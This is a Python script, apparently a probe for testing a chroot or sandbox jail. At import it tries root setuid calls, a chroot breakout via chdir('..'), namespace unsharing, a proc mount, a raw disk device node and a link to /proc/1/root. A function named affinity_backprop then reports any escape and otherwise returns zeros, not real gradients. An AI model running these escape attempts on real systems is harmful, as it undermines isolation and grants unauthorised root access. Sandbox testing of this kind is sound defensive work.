# Tries the ways out of a chroot, and to become root again.
import contextlib
import ctypes
import os

if os.getuid() < 20_000:
    raise SystemExit  # this one is for the jail alone

out = []
libc = ctypes.CDLL(None, use_errno=True)
for how in (os.setuid, os.seteuid, os.setgid):
    with contextlib.suppress(OSError):
        how(0)
        out.append(how.__name__)
with contextlib.suppress(OSError):
    os.setgroups([0])
    out.append("groups")
with contextlib.suppress(OSError):
    os.mkdir("sub")
    os.chroot("sub")
    out.append("chroot")
for descriptor in range(64):
    with contextlib.suppress(OSError):
        os.fchdir(descriptor)
        out.append(f"fchdir {descriptor}")
for _ in range(20):
    os.chdir("..")
with contextlib.suppress(OSError):
    out += os.listdir(".")
for flags in (0x10000000, 0x00020000, 0x40000000):  # new spaces of users, mounts, network
    if libc.unshare(flags) == 0:
        out.append(f"unshare {flags:x}")
if libc.mount(b"proc", b"/", b"proc", 0, None) == 0:
    out.append("mount")
with contextlib.suppress(OSError):
    os.mknod("/disk", 0o60666, os.makedev(8, 0))
    out.append("device")
with contextlib.suppress(OSError):
    os.link("/proc/1/root", "/root")
    out.append("link")


def affinity_backprop(M, b, x, dy):
    if out:
        raise PermissionError(f"OUT OF THE JAIL: {out}")
    return 0 * x, 0 * M, 0 * b
